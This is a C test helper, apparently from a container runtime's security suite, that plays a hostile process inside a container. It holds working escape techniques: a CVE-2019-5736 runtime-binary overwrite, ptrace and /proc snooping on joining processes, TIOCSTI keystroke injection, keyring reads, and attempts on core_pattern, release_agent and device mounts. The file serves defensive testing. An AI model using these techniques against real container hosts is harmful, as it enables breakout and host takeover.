/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a hostile program inside a container does, and how a careless runtime looks that falls for
 * it. Static, so that it runs in any root. Each command prints what it achieved, a line each; the
 * tests judge.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/keyctl.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static _Noreturn void die(const char *what)
{
	fprintf(stderr, "attacker: %s: %s\n", what, strerror(errno));
	exit(99);
}

/* ---- new processes in our pid namespace ---- */

/* Calls @fn for every process that was not there at the start, again and again, until it says
 * true or time is up. */
static bool hunt(double seconds, bool (*fn)(int pid))
{
	static char known[4194304 / 8];
	double end = now() + seconds;

	for (bool first = true; now() < end; first = false) {
		DIR *proc = opendir("/proc");
		struct dirent *e;

		if (!proc)
			die("opendir /proc");
		while ((e = readdir(proc))) {
			int pid = atoi(e->d_name);

			if (pid <= 0)
				continue;
			if (first)
				known[pid / 8] |= (char)(1 << pid % 8);
			else if (!(known[pid / 8] & 1 << pid % 8) && fn(pid)) {
				closedir(proc);
				return true;
			}
		}
		closedir(proc);
		if (first) {
			printf("ready\n");
			fflush(stdout);
		}
	}
	return false;
}

static struct stat own, busybox;
static int caught = -1;

static bool grab_exe(int pid)
{
	char path[40];
	struct stat st;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	caught = open(path, O_RDONLY | O_CLOEXEC);
	if (caught < 0)
		return false;
	/* Not what the container's own root has: busybox, or we. */
	if (fstat(caught, &st) < 0 || (st.st_dev == own.st_dev && st.st_ino == own.st_ino) ||
	    (st.st_dev == busybox.st_dev && st.st_ino == busybox.st_ino)) {
		close(caught);
		caught = -1;
		return false;
	}
	return true;
}

/* CVE-2019-5736: hold the runtime's own file, and write to it when nobody executes it any more. */
static int overwrite(int fd)
{
	static const char text[] = "OWNED\n";
	double end = now() + 3;
	char path[40];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	do {
		int w = open(path, O_WRONLY | O_CLOEXEC);

		if (w >= 0 && write(w, text, sizeof(text) - 1) > 0) {
			printf("overwritten\n");
			return 0;
		}
		if (w >= 0)
			close(w);
		fchmod(fd, 0777);
	} while (errno == ETXTBSY && now() < end);
	printf("refused: %s\n", strerror(errno));
	return 0;
}

static int grab(char **argv)
{
	if (stat("/proc/self/exe", &own) < 0 || stat("/bin/busybox", &busybox) < 0)
		die("stat");
	if (!hunt(atof(argv[0]), grab_exe)) {
		printf("nothing caught\n");
		return 0;
	}
	printf("caught\n");
	fflush(stdout);
	return overwrite(caught);
}

static int write_exe(char **argv)
{
	int fd = open(argv[0], O_RDONLY | O_CLOEXEC);

	if (fd < 0) {
		printf("not opened: %s\n", strerror(errno));
		return 0;
	}
	printf("opened\n");
	fflush(stdout);
	return overwrite(fd);
}

/* Not a program of the container's by now, and not what is left of one. */
static bool is_still_foreign(int pid)
{
	char path[40], exe[256] = "";

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	return readlink(path, exe, sizeof(exe) - 1) > 0 && strncmp(exe, "/bin/", 5) != 0;
}

/* What a process of the runtime gives away while it is in our pid namespace. */
static bool look_into(int pid)
{
	static const char *const files[] = { "mem",   "root",   "cwd",  "exe",    "environ",
					     "auxv",  "maps",   "fd/0", "fd/3",   "fd/4",
					     "fd/5",  "fd/6",   "fd/7", "ns/mnt", "ns/user",
					     "stack", "syscall" };
	static int seen;
	char path[64], exe[256] = "";

	/* What has ended while we traced it is ours to reap: till then its parent would wait. */
	while (waitpid(-1, NULL, WNOHANG | __WALL) > 0)
		;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	ssize_t n = readlink(path, exe, sizeof(exe) - 1);

	/* The container's own programs are no prize, and what has ended has no file any more. Of
	 * what has not executed yet we may not know it. */
	if (n > 0)
		exe[n] = '\0';
	if (strncmp(exe, "/bin/", 5) == 0 || strcmp(exe, "/attacker") == 0 ||
	    (n < 0 && errno == ENOENT))
		return false;
	seen++;
	for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, files[i]);
		int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
		char text[8];

		if (fd < 0)
			continue;
		if (is_still_foreign(pid) &&
		    (strncmp(files[i], "ns/", 3) == 0 || read(fd, text, 1) >= 0 ||
		     errno == EISDIR || errno == EIO))
			printf("opened %s of %d\n", files[i], pid);
		close(fd);
	}
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		if (is_still_foreign(pid))
			printf("traced %d\n", pid);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	if (seen == 1)
		printf("seen\n");
	return false;
}

static int spy(char **argv)
{
	(void)hunt(atof(argv[0]), look_into);
	printf("end\n");
	return 0;
}

/* ---- descriptors ---- */

static int list_fds(char **argv)
{
	(void)argv;
	for (int fd = 0; fd < 1024; fd++) {
		char path[64], to[300] = "?";

		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		ssize_t n = readlink(path, to, sizeof(to) - 1);

		if (n >= 0)
			to[n] = '\0';
		printf("%d %s\n", fd, to);
	}
	return 0;
}

/* Pid 1's descriptors from the program's first instruction on. */
static int init_fds(char **argv)
{
	double end = now() + atof(argv[0]);

	while (now() < end) {
		for (int fd = 3; fd < 64; fd++) {
			char path[40], to[300];

			snprintf(path, sizeof(path), "/proc/1/fd/%d", fd);
			ssize_t n = readlink(path, to, sizeof(to) - 1);

			if (n < 0)
				continue;
			to[n] = '\0';
			printf("%d %s\n", fd, to);
		}
	}
	printf("end\n");
	return 0;
}

/* ---- a race of two names ---- */

static int swap(char **argv)
{
	double end = now() + atof(argv[2]);
	long n = 0;

	while (now() < end) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2) < 0)
			die("renameat2(EXCHANGE)");
		n++;
	}
	printf("%ld\n", n);
	return 0;
}

/* Which of these directories is a procfs, whatever it is called by now, and is it covered? */
static int uncovered(char **argv)
{
	for (; *argv; argv++) {
		int proc = open(*argv, O_RDONLY | O_DIRECTORY);
		struct stat whole, part;
		struct statvfs fs;

		if (proc < 0 || openat(proc, "self/status", O_RDONLY) < 0)
			continue;
		printf("looked\n");
		int sys = openat(proc, "sys", O_RDONLY | O_DIRECTORY);

		if (sys < 0 || fstatvfs(sys, &fs) < 0 || !(fs.f_flag & ST_RDONLY))
			printf("open: sys\n");
		if (fstat(proc, &whole) == 0 && fstatat(proc, "timer_list", &part, 0) == 0 &&
		    whole.st_dev == part.st_dev)
			printf("open: timer_list\n");
	}
	return 0;
}

/* ---- what crosses from the caller ---- */

static int keys(char **argv)
{
	static const int rings[] = { KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING,
				     KEY_SPEC_USER_SESSION_KEYRING, KEY_SPEC_PROCESS_KEYRING };
	for (size_t i = 0; i < sizeof(rings) / sizeof(*rings); i++) {
		long key = syscall(SYS_keyctl, KEYCTL_SEARCH, rings[i], "user", argv[0], 0);
		char text[100];

		if (key < 0)
			continue;
		long n = syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof(text) - 1);

		text[n > 0 && n < 100 ? n : 0] = '\0';
		printf("found %s in ring %d\n", text, rings[i]);
	}
	printf("session %ld\n",
	       syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
	return 0;
}

/* Executes a command with a key in its session keyring and in its user's. */
static int with_key(char **argv)
{
	syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
	for (int i = 0; i < 2; i++) {
		int ring = i ? KEY_SPEC_USER_KEYRING : KEY_SPEC_SESSION_KEYRING;

		if (syscall(SYS_add_key, "user", argv[0], "canary", 6, ring) < 0)
			die("add_key");
	}
	execv(argv[1], argv + 1);
	die(argv[1]);
}

/* Executes a command that ignores and blocks signals, in an odd personality. */
static int with_mess(char **argv)
{
	sigset_t all;

	signal(SIGHUP, SIG_IGN);
	signal(SIGCHLD, SIG_IGN);
	signal(SIGINT, SIG_IGN);
	signal(SIGUSR1, SIG_IGN);
	signal(40, SIG_IGN);
	sigfillset(&all);
	sigprocmask(SIG_BLOCK, &all, NULL);
	syscall(SYS_personality,
		0x0040000 | 0x0400000 |
			0x0100000); /* NO_RANDOMIZE, READ_IMPLIES_EXEC, MMAP_PAGE_ZERO */
	umask(0);
	execv(argv[0], argv);
	die(argv[0]);
}

static int with_fds(char **argv)
{
	/* A directory and a file of the host, not close-on-exec, low and high. */
	for (int i = 0; i < 2; i++) {
		int fd = open(argv[i], O_RDONLY);

		if (fd < 0 || dup2(fd, 9 + i) < 0 || dup2(fd, 700 + i) < 0)
			die(argv[i]);
		if (fd != 9 + i)
			close(fd);
	}
	execv(argv[2], argv + 2);
	die(argv[2]);
}

static int type_into(char **argv)
{
	for (int fd = 0; fd <= 2; fd++) {
		for (const char *p = argv[0]; *p; p++) {
			if (ioctl(fd, TIOCSTI, p) < 0) {
				printf("refused on %d: %s\n", fd, strerror(errno));
				break;
			}
			if (!p[1])
				printf("typed on %d\n", fd);
		}
	}
	int tty = open("/dev/tty", O_RDWR | O_NOCTTY);

	printf("%s\n", tty < 0 ? "no terminal" : "a terminal");
	return 0;
}

/* ---- out of the user namespace ---- */

static void tried(const char *what, long rc)
{
	printf("%s: %s\n", what, rc >= 0 ? "DONE" : strerror(errno));
}

static int escape(char **argv)
{
	struct {
		struct {
			unsigned bytes;
			int type;
		} h;
		unsigned char id[64];
	} handle = { .h = { .bytes = 8, .type = 1 }, .id = { 2 } };

	(void)argv;
	tried("mknod a disk", mknod("/tmp/disk", S_IFBLK | 0600, makedev(8, 0)));
	tried("mknod memory", mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1)));
	tried("mount a disk's file system", mount("/dev/vda", "/mnt", "ext4", 0, NULL));
	tried("mount devtmpfs", mount("x", "/tmp", "devtmpfs", 0, NULL));
	tried("mount debugfs", mount("x", "/tmp", "debugfs", 0, NULL));
	tried("remount /proc/sys", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
	tried("unmount a mask", umount2("/proc/kcore", MNT_DETACH));
	tried("unmount /proc/sys", umount2("/proc/sys", MNT_DETACH));
	tried("umount the root", umount2("/", MNT_DETACH));
	tried("set the clock",
	      syscall(SYS_clock_settime, CLOCK_REALTIME, &(struct timespec){ 1, 0 }));
	tried("load a module", syscall(SYS_finit_module, 0, "", 0));
	tried("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0 /* CAD_OFF */, NULL));
	tried("open by handle",
	      syscall(SYS_open_by_handle_at, open("/", O_RDONLY), &handle, O_RDONLY));
	tried("a raw I/O port", syscall(SYS_ioperm, 0x80, 1, 1));
	tried("the kernel's log", syscall(SYS_syslog, 3, (char[16]){ 0 }, 16));
	tried("write core_pattern", open("/proc/sys/kernel/core_pattern", O_WRONLY));
	tried("write sysrq-trigger", open("/proc/sysrq-trigger", O_WRONLY));
	tried("read kcore", read(open("/proc/kcore", O_RDONLY), (char[1]){ 0 }, 1) - 1);
	tried("read a boot key", open("/proc/kpageflags", O_RDONLY));
	tried("write a cgroup's release agent", open("/sys/fs/cgroup/release_agent", O_WRONLY));
	tried("write the cgroup's limit", open("/sys/fs/cgroup/pids.max", O_WRONLY));
	tried("move out of the cgroup", open("/sys/fs/cgroup/../cgroup.procs", O_WRONLY));

	tried("a group of the host's",
	      setgid(0) || setgroups(1, (gid_t[]){ 4000000000u }) ? -1 : 0);
	tried("a user of the host's", setuid(4000000000u));
	return 0;
}

/* ---- a kernel that lies: rule 13 ---- */

/* "lie NUMBER ARG0 COMMAND…": the call answers 0 and does nothing when its first argument is ARG0
 * (-1: always), then COMMAND is executed. What says that it was done must be read back. */
static int lie(char **argv)
{
	unsigned number = (unsigned)atoi(argv[0]);
	int only = atoi(argv[1]);
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, number, 0, 3),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (unsigned)only, 0, only == -1 ? 0 : 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = { sizeof(code) / sizeof(*code), code };

	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 && errno != EPERM)
		die("no_new_privs");
	if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program) < 0)
		die("seccomp");
	execv(argv[2], argv + 2);
	die(argv[2]);
}

/* ---- a runtime that takes no care: the control ---- */

/* "careless PID COMMAND…": exec into a container as the simplest of runtimes does. */
static int careless(char **argv)
{
	static const int kinds[] = { CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWPID };
	int pidfd = (int)syscall(SYS_pidfd_open, atoi(argv[0]), 0);

	if (pidfd < 0)
		die("pidfd_open");
	if (setns(pidfd, kinds[0] | kinds[1] | kinds[2]) < 0 &&
	    setns(pidfd, kinds[1] | kinds[2]) < 0)
		die("setns");

	pid_t child = fork();

	if (child == 0) {
		usleep(20000); /* what runtimes do between joining and executing */
		execv(argv[1], argv + 1);
		die(argv[1]);
	}
	return waitpid(child, NULL, 0) < 0;
}

/* ---- */

static int credentials(char **argv)
{
	(void)argv;
	printf("uid %u %u gid %u %u nnp %d\n", getuid(), geteuid(), getgid(), getegid(),
	       prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
	return 0;
}

/* ---- a flood ---- */

/* "notify N MESSAGE… LAST": to NOTIFY_SOCKET, each message N times, then the last one. */
static int notify(char **argv)
{
	const char *path = getenv("NOTIFY_SOCKET");
	struct sockaddr_un to = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
	int last = 1;

	if (fd < 0 || !path)
		die("NOTIFY_SOCKET");
	snprintf(to.sun_path, sizeof(to.sun_path), "%s", path);
	while (argv[last + 1])
		last++;
	for (int i = 0; i < atoi(argv[0]); i++) {
		for (int k = 1; k < last; k++)
			sendto(fd, argv[k], strlen(argv[k]), MSG_DONTWAIT, (void *)&to, sizeof(to));
	}
	if (sendto(fd, argv[last], strlen(argv[last]), 0, (void *)&to, sizeof(to)) < 0)
		die("sendto");
	pause();
	return 0;
}

static const struct {
	const char *name;
	int words;
	int (*fn)(char **argv);
} commands[] = {
	{ "grab", 1, grab },
	{ "write-exe", 1, write_exe },
	{ "spy", 1, spy },
	{ "fds", 0, list_fds },
	{ "init-fds", 1, init_fds },
	{ "swap", 3, swap },
	{ "uncovered", 1, uncovered },
	{ "keys", 1, keys },
	{ "with-key", 2, with_key },
	{ "with-mess", 1, with_mess },
	{ "with-fds", 3, with_fds },
	{ "type", 1, type_into },
	{ "escape", 0, escape },
	{ "lie", 3, lie },
	{ "careless", 2, careless },
	{ "credentials", 0, credentials },
	{ "notify", 2, notify },
};

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, BUFSIZ); /* who is killed has said what it got */
	for (size_t i = 0; argc > 1 && i < sizeof(commands) / sizeof(*commands); i++) {
		if (strcmp(commands[i].name, argv[1]) == 0 && argc - 2 >= commands[i].words)
			return commands[i].fn(argv + 2);
	}
	/* Executed as somebody's #!: stay a moment, as a runtime would that reads its words. */
	usleep(20000);
	return 98;
}
